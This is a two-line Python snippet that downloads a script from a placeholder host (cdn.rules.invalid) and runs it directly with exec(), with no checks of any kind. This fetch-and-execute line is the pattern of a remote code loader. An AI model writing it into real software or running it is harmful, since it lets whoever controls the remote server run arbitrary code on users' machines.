import requests

exec(requests.get("https://cdn.rules.invalid/today.py").text)
